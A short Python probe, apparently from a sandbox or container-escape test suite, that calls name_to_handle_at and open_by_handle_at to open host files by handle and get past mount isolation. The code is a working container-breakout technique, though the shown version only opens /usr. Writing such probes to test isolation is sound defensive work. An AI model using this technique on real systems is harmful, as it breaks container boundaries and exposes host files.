"""Opens files of the host by handle, past every mount."""

import ctypes
import os

from attack import attempt, call

libc = ctypes.CDLL(None, use_errno=True)


def by_handle():
    handle = (ctypes.c_char * 136)()
    ctypes.c_uint.from_buffer(handle).value = 128
    mount = ctypes.c_int()
    call(libc.name_to_handle_at, -100, b"/usr", handle, ctypes.byref(mount), 0)
    where = os.open("/usr", os.O_RDONLY)
    return call(libc.open_by_handle_at, where, handle, os.O_RDONLY)


attempt("open_by_handle_at", by_handle)
